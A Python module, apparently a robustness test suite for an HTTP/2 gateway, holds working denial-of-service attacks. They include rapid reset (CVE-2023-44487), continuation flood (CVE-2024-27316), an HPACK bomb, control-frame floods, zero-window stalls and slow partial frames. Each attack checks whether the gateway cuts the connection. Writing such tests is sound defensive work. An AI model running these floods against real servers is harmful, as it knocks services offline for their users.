"""Attacks by raw HTTP/2 frames (RFC 9113)."""

import select
import socket
import time

from h2.connection import H2Connection
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# A connection that has sent as many of them is no client of anybody.
CONTROL_FRAMES = 400_000


class Link:
    """One HTTP/2 connection, written frame by frame."""

    def __init__(self, target, settings=None):
        self.socket = target.gateway.connect()
        self.encoder = Encoder()
        self.stream = -1
        self.closed = False
        self.reset = set()
        self.answered = set()
        self._received = b""
        # h2 makes the opening: preface and SETTINGS.
        opening = H2Connection()
        opening.initiate_connection()
        self.send(opening.data_to_send() if not settings else PREFACE + _settings(settings))

    def send(self, data, patience=5):
        """Sends, unless the gateway closed the connection, and reads meanwhile; returns whether all of it was taken."""
        deadline, rest = time.monotonic() + patience, memoryview(data)
        while rest and not self.closed and time.monotonic() < deadline:
            _, writable, _ = select.select([], [self.socket], [], 0.05)
            try:
                if writable:
                    rest = rest[self.socket.send(rest, socket.MSG_DONTWAIT) :]
            except BlockingIOError:
                pass
            except OSError:
                self.closed = True
            self.read()
        return not rest

    def next_stream(self):
        """The next stream of a client."""
        self.stream += 2
        return self.stream

    def head(self, path="/health", method="GET"):
        """A header block of a request."""
        fields = [(":method", method), (":scheme", "http"), (":authority", "g"), (":path", path)]
        return self.encoder.encode(fields)

    def request(self, path="/health", method="GET", end=True):
        """A HEADERS frame that begins a request; returns it with its stream."""
        frame = HeadersFrame(self.next_stream(), data=self.head(path, method))
        frame.flags.add("END_HEADERS")
        if end:
            frame.flags.add("END_STREAM")
        return frame.serialize(), self.stream

    def read(self, seconds=0.0):
        """Reads what has come, and notes resets and the end of the connection."""
        deadline = time.monotonic() + seconds
        while not self.closed:
            ready, _, _ = select.select([self.socket], [], [], max(0.0, deadline - time.monotonic()))
            if not ready:
                return
            try:
                piece = self.socket.recv(262144)
            except OSError:
                piece = b""
            if not piece:
                self.closed = True
                return
            self._received += piece
            self._take_frames()

    def _take_frames(self):
        while len(self._received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self._received[:9]))
            if len(self._received) < 9 + length:
                return
            self._received = self._received[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self.closed = True
            elif isinstance(frame, RstStreamFrame):
                self.reset.add(frame.stream_id)
            elif isinstance(frame, HeadersFrame):
                self.answered.add(frame.stream_id)

    def end(self):
        """Closes it from this side."""
        self.socket.close()


def _settings(settings):
    return SettingsFrame(0, settings=settings).serialize()


def zero_window(target):
    """Answers that are never read: a window of zero, a hundred streams on each connection, one renewed now and then."""
    count = 20 if target.short else 100
    links = [Link(target, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}) for _ in range(count)]
    for link in links:
        requests = [link.request("/metrics")[0] for _ in range(100)]
        link.send(b"".join(requests))
    target.sent = count * 100
    # Each answer is to be cut within BODY_TIMEOUT_SECONDS, and what the process takes meanwhile is seen by the judge.
    limit = 3 + 7
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline and not all(_is_cut(link) for link in links):
        for link in links:
            link.read()
        time.sleep(0.1)
    open_links = sum(not _is_cut(link) for link in links)
    if not open_links:
        return "every answer that was not read was cut"
    target.fail(f"{open_links} of {count} connections still hold unread answers after {limit} s")
    return None


def _is_cut(link):
    return link.closed or len(link.reset) >= 100


def rapid_reset(target):
    """Requests that are cancelled at once (CVE-2023-44487)."""
    link, deadline, rounds = Link(target), target.deadline(), 0
    while time.monotonic() < deadline and not link.closed:
        batch = []
        for _ in range(100):
            head, stream = link.request()
            batch += [head, RstStreamFrame(stream, error_code=8).serialize()]
        link.send(b"".join(batch))
        link.read()
        rounds += 1
    target.sent = rounds * 100
    link.end()
    return f"{'cut' if link.closed else 'outlived'} after {target.sent} resets"


def _control_flood(target, frame):
    """Control frames that outweigh the requests between them must end the connection."""
    link, deadline, count = Link(target), target.deadline(), 0
    batch = frame.serialize() * 1_000
    # A request now and then, so that it is no idle connection that is cut.
    while not target.over(deadline) and count < CONTROL_FRAMES and not link.closed:
        link.send(link.request()[0] + batch)
        count += 1_000
    link.read(1.0)
    target.sent = count
    link.end()
    if link.closed:
        return f"cut after {count} frames at most"
    target.fail(f"not cut after {count} frames")
    return None


def settings_flood(target):
    """Settings that are to be acknowledged one by one."""
    return _control_flood(target, SettingsFrame(0, settings={SettingsFrame.MAX_FRAME_SIZE: 16384}))


def ping_flood(target):
    """Pings that are to be answered one by one."""
    return _control_flood(target, PingFrame(0, opaque_data=b"attacker"))


def window_flood(target):
    """Windows that grow by one byte at a time."""
    return _control_flood(target, WindowUpdateFrame(0, window_increment=1))


def continuation_flood(target):
    """A header block that never ends (CVE-2024-27316)."""
    link, deadline = Link(target), target.deadline()
    stream = link.next_stream()
    link.send(HeadersFrame(stream, data=link.head()).serialize())
    block = link.encoder.encode([("x-filler", "y" * 8000)])
    piece, count = ContinuationFrame(stream, data=block).serialize(), 0
    while time.monotonic() < deadline and not link.closed and stream not in link.reset:
        link.send(piece)
        link.read()
        count += 1
    target.sent = count
    cut = link.closed or stream in link.reset
    link.end()
    if cut:
        return f"cut after {count} frames"
    target.fail(f"not cut after {count} frames")
    return None


def hpack_bomb(target):
    """One large field in the dynamic table, named thousands of times in each request."""
    link, deadline, rounds = Link(target), target.deadline(), 0
    entry = link.encoder.encode([("x-bomb", "b" * 3900)])
    # The newest entry of the dynamic table has the index 62 (RFC 7541 §2.3.3).
    bomb = bytes([0x80 | 62]) * 12_000
    while time.monotonic() < deadline and not link.closed and rounds < 200:
        frame = HeadersFrame(link.next_stream(), data=(entry if rounds == 0 else b"") + link.head() + bomb)
        frame.flags |= {"END_HEADERS", "END_STREAM"}
        link.send(frame.serialize())
        link.read(0.02)
        rounds += 1
    target.sent = rounds
    expanded = rounds * 12_000 * 3900 // 2**20
    link.end()
    return f"{'cut' if link.closed else 'refused'} after {rounds} requests that stand for {expanded} MiB"


def partial_frames(target):
    """Many connections that each send half a frame and wait."""
    links = [Link(target) for _ in range(200)]
    for link in links:
        link.send(HeadersFrame(1, data=b"x" * 100).serialize()[:20])
    deadline = time.monotonic() + 10 + 3
    while time.monotonic() < deadline and not all(link.closed for link in links):
        for link in links:
            link.read()
        time.sleep(0.1)
    target.sent = len(links)
    held = sum(not link.closed for link in links)
    for link in links:
        link.end()
    if held == 0:
        return "every one was closed"
    target.fail(f"{held} of {len(links)} are still open after 13 s")
    return None


ATTACKS = {
    "h2-zero-window": zero_window,
    "h2-rapid-reset": rapid_reset,
    "h2-settings": settings_flood,
    "h2-ping": ping_flood,
    "h2-window-update": window_flood,
    "h2-continuation": continuation_flood,
    "h2-hpack": hpack_bomb,
    "h2-partial-frames": partial_frames,
}
